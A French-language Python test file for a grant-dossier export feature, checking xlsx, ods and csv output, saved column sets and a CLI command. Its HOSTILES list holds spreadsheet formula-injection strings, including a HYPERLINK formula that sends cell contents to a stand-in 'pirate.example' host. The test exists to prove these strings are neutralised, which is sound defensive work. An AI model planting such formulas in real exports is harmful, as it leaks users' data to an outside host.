"""Exports aux colonnes choisies (issue 14, points 3 et 4) : jeux enregistrés, trois formats relus, textes
hostiles neutralisés, ligne de commande."""

from __future__ import annotations

import csv
import datetime as dt
import json
import zipfile
from decimal import Decimal

import pytest

from instruction import cli
from instruction.domaine import colonnes as c
from instruction.domaine.erreurs import DonneesInvalides
from instruction.rapports.export_colonnes import exporter
from instruction.services.lignes import LigneDossier

HOSTILES = ['=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SOMME(A1:A2)",
            "\t=1+1", "\r=1+1"]
JEU = ("porteur", "accorde", "numero", "depose_le", "cotation.handicap", "intitule", "cout_total", "instructeur")


def _ligne(i: int, intitule: str = "Ateliers parents-enfants", porteur: str = "Centre social Matisse",
           accorde: int | None = 80000) -> LigneDossier:
    return LigneDossier(i, f"CDV-2027-{i:03d}", intitule, porteur, "CDV", 2027, "Beau Marais", "retenu",
                        "2027-03-02 09:30:00", 150000 + i, 90000, "2026-11-02" if i % 2 else None,
                        cotations=(2, None, i % 3), accorde=accorde, instructeur="Claire Martin" if i % 2 else "")


LIGNES = [_ligne(1), _ligne(2, accorde=None), _ligne(3, accorde=12345)]


# --- Les colonnes déclarées --------------------------------------------------------------------------


def test_le_catalogue_est_type_et_le_jeu_d_origine_garde_l_ancien_export():
    catalogue = c.catalogue()
    assert len({col.code for col in catalogue}) == len(catalogue)
    assert {col.genre for col in catalogue} == {c.TEXTE, c.MONTANT, c.DATE, c.ENTIER}
    assert [col.libelle for col in c.choisir(c.par_defaut())] == [
        "N°", "Intitulé de l'action", "Porteur", "Dispositif", "Année", "Quartiers", "État",
        "Dans cet état depuis le", "Coût total", "Subvention demandée", "Subvention accordée", "Déposé le",
        "Cotation Égalité F-H", "Cotation Illettrisme", "Cotation Handicap"]
    assert "instructeur" in {col.code for col in catalogue}
    valeurs = c.rangees(c.choisir(JEU), [LIGNES[0]])[0]
    assert valeurs == ["Centre social Matisse", Decimal("800.00"), "CDV-2027-001", dt.date(2026, 11, 2), 1,
                       "Ateliers parents-enfants", Decimal("1500.01"), "Claire Martin"]
    assert all(not isinstance(v, float) for v in valeurs)


def test_un_jeu_invalide_est_refuse_en_francais():
    with pytest.raises(DonneesInvalides, match="au moins une colonne"):
        c.choisir([])
    with pytest.raises(DonneesInvalides, match="Colonne inconnue : « budget_ajuste »"):
        c.choisir(["numero", "budget_ajuste"])
    with pytest.raises(DonneesInvalides, match="qu'une fois : « N° »"):
        c.choisir(["numero", "porteur", "numero"])
    with pytest.raises(DonneesInvalides, match="Donnez un nom"):
        c.nom_valide("   ")
    with pytest.raises(DonneesInvalides, match="Format d'export inconnu « .pdf »"):
        c.format_du_fichier("liste.pdf")
    assert c.nom_valide("  Suivi   comité ") == "Suivi comité"


# --- Les trois formats, relus ------------------------------------------------------------------------


def _entetes_xlsx(fichier):
    from openpyxl import load_workbook

    return [cellule.value for cellule in load_workbook(fichier).active[1]]


def _lire_ods(fichier):
    from python_calamine import CalamineWorkbook

    return CalamineWorkbook.from_path(str(fichier)).get_sheet_by_index(0).to_python()


def _lire_csv(fichier):
    brut = fichier.read_bytes()
    assert brut.startswith(b"\xef\xbb\xbf"), "BOM UTF-8 : Excel reconnaît l'encodage"
    with open(fichier, encoding="utf-8-sig", newline="") as entree:
        return list(csv.reader(entree, delimiter=";"))


def test_le_meme_jeu_donne_les_memes_colonnes_dans_le_meme_ordre(tmp_path):
    attendu = [col.libelle for col in c.choisir(JEU)]
    assert attendu[:3] == ["Porteur", "Subvention accordée", "N°"]
    for essai in range(2):
        assert _entetes_xlsx(exporter(c.choisir(JEU), LIGNES, tmp_path / f"{essai}.xlsx")) == attendu
        assert _lire_ods(exporter(c.choisir(JEU), LIGNES, tmp_path / f"{essai}.ods"))[0] == attendu
        assert _lire_csv(exporter(c.choisir(JEU), LIGNES, tmp_path / f"{essai}.csv"))[0] == attendu
    # Même sans ligne à exporter, les colonnes sont là (une macro lit l'en-tête).
    assert _lire_csv(exporter(c.choisir(JEU), [], tmp_path / "vide.csv")) == [attendu]


def test_xlsx_nombres_dates_et_total(tmp_path):
    from openpyxl import load_workbook

    feuille = load_workbook(exporter(c.choisir(JEU), LIGNES, tmp_path / "liste.xlsx")).active
    rangs = list(feuille.iter_rows(min_row=2, values_only=True))
    assert [r[2] for r in rangs[:3]] == ["CDV-2027-001", "CDV-2027-002", "CDV-2027-003"]
    assert rangs[0][1] == pytest.approx(800.0) and rangs[1][1] is None and rangs[2][1] == pytest.approx(123.45)
    assert rangs[0][3] == dt.datetime(2026, 11, 2) and rangs[1][3] is None
    assert rangs[0][4] == 1 and isinstance(rangs[0][4], int)
    assert feuille.cell(2, 2).number_format.endswith('"€"') and feuille.cell(2, 4).number_format == "dd/mm/yyyy"
    # Ligne de total : libellés dans les premières colonnes qui ne sont pas des montants, formules SUM.
    assert rangs[3] == ("Total", "=SUM(B2:B4)", "3 dossiers", None, None, None, "=SUM(G2:G4)", None)
    assert feuille.cell(5, 2).data_type == "f" and feuille.freeze_panes == "B2"


def test_ods_monnaie_dates_total_relus_par_calamine_et_odfpy(tmp_path):
    from odf import opendocument, table, text

    fichier = exporter(c.choisir(JEU), LIGNES, tmp_path / "liste.ods")
    lu = _lire_ods(fichier)
    assert lu[1][:5] == ["Centre social Matisse", 800.0, "CDV-2027-001", dt.date(2026, 11, 2), 1.0]
    assert lu[2][1] == "" and lu[3][1] == pytest.approx(123.45)
    assert lu[4][:3] == ["Total", pytest.approx(923.45), "3 dossiers"], "valeur calculée du total gardée"
    document = opendocument.load(str(fichier))
    rangees = document.spreadsheet.getElementsByType(table.TableRow)
    cellules = rangees[1].getElementsByType(table.TableCell)
    assert cellules[1].getAttribute("valuetype") == "currency" and cellules[1].getAttribute("value") == "800.00"
    assert cellules[3].getAttribute("valuetype") == "date" and cellules[3].getAttribute("datevalue") == "2026-11-02"
    total = rangees[4].getElementsByType(table.TableCell)[1]
    assert total.getAttribute("formula") == "of:=SUM([.B2:.B4])"
    assert str(rangees[0].getElementsByType(text.P)[0]) == "Porteur"


def test_csv_pour_excel_en_francais(tmp_path):
    fichier = exporter(c.choisir(JEU), LIGNES, tmp_path / "liste.csv")
    assert b"\r\n" in fichier.read_bytes() and b";" in fichier.read_bytes().splitlines()[0]
    rangs = _lire_csv(fichier)
    assert len(rangs) == 4, "pas de ligne de total dans un csv"
    assert rangs[1] == ["Centre social Matisse", "800,00", "CDV-2027-001", "02/11/2026", "1",
                        "Ateliers parents-enfants", "1500,01", "Claire Martin"]
    assert rangs[2][1] == "" and rangs[2][3] == "" and rangs[3][1] == "123,45"


def test_les_textes_hostiles_ne_deviennent_jamais_des_formules(tmp_path):
    from odf import opendocument, table
    from openpyxl import load_workbook

    lignes = [_ligne(i, intitule=texte, porteur=texte) for i, texte in enumerate(HOSTILES, 1)]
    jeu = c.choisir(("intitule", "porteur", "cout_total"))
    feuille = load_workbook(exporter(jeu, lignes, tmp_path / "h.xlsx")).active
    for rang, texte in enumerate(HOSTILES, start=2):
        for colonne in (1, 2):
            cellule = feuille.cell(rang, colonne)
            assert (cellule.data_type, cellule.value, cellule.quotePrefix) == ("s", texte, True), (rang, colonne)
    formules = [x.coordinate for r in feuille.iter_rows() for x in r if x.data_type == "f"]
    assert formules == [f"C{len(lignes) + 2}"], "seul le total du programme est une formule"

    fichier = exporter(jeu, lignes, tmp_path / "h.ods")
    rangees = opendocument.load(str(fichier)).spreadsheet.getElementsByType(table.TableRow)
    for rangee in rangees[1:len(lignes) + 1]:
        for cellule in rangee.getElementsByType(table.TableCell)[:2]:
            assert cellule.getAttribute("valuetype") == "string" and not cellule.getAttribute("formula")
    # Le XML d'odfpy ramène un retour chariot à un saut de ligne (le texte reste du texte).
    assert [r[0] for r in _lire_ods(fichier)[1:len(lignes) + 1]] == [t.replace("\r", "\n") for t in HOSTILES]

    rangs = _lire_csv(exporter(jeu, lignes, tmp_path / "h.csv"))
    assert [r[0] for r in rangs[1:]] == ["'" + texte for texte in HOSTILES]
    assert all(not r[0].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rangs[1:])


def test_fichier_impossible_a_ecrire_message_clair(tmp_path):
    from instruction.domaine.erreurs import ErreurInstruction

    for extension in (".xlsx", ".ods", ".csv"):
        with pytest.raises(ErreurInstruction, match="Impossible d'écrire"):
            exporter(c.choisir(JEU), LIGNES, tmp_path / "absent" / f"liste{extension}")
    assert not (tmp_path / "absent").exists()


# --- Jeux enregistrés (SQLite et PostgreSQL) ---------------------------------------------------------


def test_jeux_enregistres_listes_remplaces_supprimes(contexte):
    from sqlalchemy import select

    from instruction.db import modeles as m
    from instruction.services import echanges, historique
    from instruction.services.actions import exports as actions

    assert actions.lire_jeux(contexte) == []
    jeux = actions.enregistrer_jeu(contexte, " Suivi  comité ", JEU).valeur
    assert jeux == [c.JeuDeColonnes("Suivi comité", JEU)]
    actions.enregistrer_jeu(contexte, "Aa bilan", ["numero", "accorde"])
    assert [j.nom for j in actions.lire_jeux(contexte)] == ["Aa bilan", "Suivi comité"]
    # Le même nom remplace ; l'ordre choisi est gardé tel quel.
    actions.enregistrer_jeu(contexte, "Suivi comité", list(reversed(JEU)))
    with contexte.unite(lecture=True) as uow:
        from instruction.services import exports

        assert exports.jeu(uow, "Suivi comité").codes == tuple(reversed(JEU))
        assert echanges.correspondances(uow) == [], "l'import ne voit pas les jeux d'export"
        lignes = [(h.objet, h.action, h.champ) for h in uow.session.scalars(
            select(m.Historique).where(m.Historique.objet == exports.OBJET).order_by(m.Historique.id))]
        assert lignes == [(exports.OBJET, "enregistrement", "Suivi comité"),
                          (exports.OBJET, "enregistrement", "Aa bilan"),
                          (exports.OBJET, "modification", "Suivi comité")]
        numero = historique.dernier_numero(uow)
    actions.enregistrer_jeu(contexte, "Suivi comité", list(reversed(JEU)))  # rien de changé : rien d'écrit
    with contexte.unite(lecture=True) as uow:
        assert historique.dernier_numero(uow) == numero
    with pytest.raises(DonneesInvalides, match="Colonne inconnue"):
        actions.enregistrer_jeu(contexte, "Faux", ["numero", "inconnue"])
    assert [j.nom for j in actions.supprimer_jeu(contexte, "Aa bilan").valeur] == ["Suivi comité"]
    with pytest.raises(DonneesInvalides, match="rien à supprimer"):
        actions.supprimer_jeu(contexte, "Aa bilan")
    with pytest.raises(DonneesInvalides, match="Aucun jeu de colonnes enregistré sous le nom « Absent » "
                                               r"\(enregistrés : « Suivi comité »\)"):
        with contexte.unite(lecture=True) as uow:
            exports.jeu(uow, "Absent")
    # Un jeu écrit par une autre version, avec une colonne disparue : refusé, jamais exporté amputé.
    with contexte.unite() as uow:
        uow.session.get(m.CorrespondanceImport, "export:dossiers:Suivi comité").colonnes = json.dumps(["numero", "x"])
        uow.valider()
    with contexte.unite(lecture=True) as uow, pytest.raises(DonneesInvalides, match="Colonne inconnue : « x »"):
        exports.jeu(uow, "Suivi comité")


# --- Ligne de commande -------------------------------------------------------------------------------


def test_commande_exporter_dossiers(url_demo, tmp_path, capsys):
    from instruction.services.actions import exports as actions
    from instruction.services.contexte import ouvrir

    contexte = ouvrir(url_demo)
    try:
        actions.enregistrer_jeu(contexte, "Comité", ["numero", "porteur", "demande", "accorde", "etat"])
        with contexte.unite(lecture=True) as uow:
            from instruction.services import exports

            attendus = [l.numero for l in exports.lignes(uow, "cdv-2027")]
    finally:
        contexte.fermer()
    assert attendus and all(n.lower().startswith("cdv-2027") for n in attendus), attendus[:3]
    sortie = tmp_path / "comite.csv"
    assert cli.main(["exporter", "dossiers", "--colonnes", "Comité", "--campagne", "cdv-2027", "-o", str(sortie),
                     "--database", url_demo]) == cli.SUCCES
    assert f"{len(attendus)} dossiers exportés dans {sortie} ; colonnes : N° · Porteur" in capsys.readouterr().out
    rangs = _lire_csv(sortie)
    assert rangs[0] == ["N°", "Porteur", "Subvention demandée", "Subvention accordée", "État"]
    assert [r[0] for r in rangs[1:]] == attendus
    assert all("," in r[2] and "." not in r[2] for r in rangs[1:])

    classeur = tmp_path / "tout.xlsx"
    assert cli.main(["exporter", "dossiers", "-o", str(classeur), "--database", url_demo]) == cli.SUCCES
    capsys.readouterr()
    assert _entetes_xlsx(classeur) == [col.libelle for col in c.choisir(c.par_defaut())]

    for arguments, message in (
        (["--colonnes", "Inconnu", "-o", str(tmp_path / "x.xlsx")], "Aucun jeu de colonnes enregistré sous le nom"),
        (["--campagne", "cdv-1999", "-o", str(tmp_path / "x.xlsx")], "Aucune campagne « cdv-1999 »"),
        (["-o", str(tmp_path / "x.pdf")], "Format d'export inconnu « .pdf »"),
    ):
        assert cli.main(["exporter", "dossiers", *arguments, "--database", url_demo]) == cli.PROBLEME
        assert message in capsys.readouterr().err
    assert not (tmp_path / "x.xlsx").exists()


def test_le_classeur_xlsx_est_un_vrai_zip_avec_une_feuille(tmp_path):
    fichier = exporter(c.choisir(JEU), LIGNES, tmp_path / "l.xlsx")
    with zipfile.ZipFile(fichier) as archive:
        assert "xl/worksheets/sheet1.xml" in archive.namelist()
    assert not list(tmp_path.glob(".*partiel")), "le fichier temporaire a été mis à sa place"
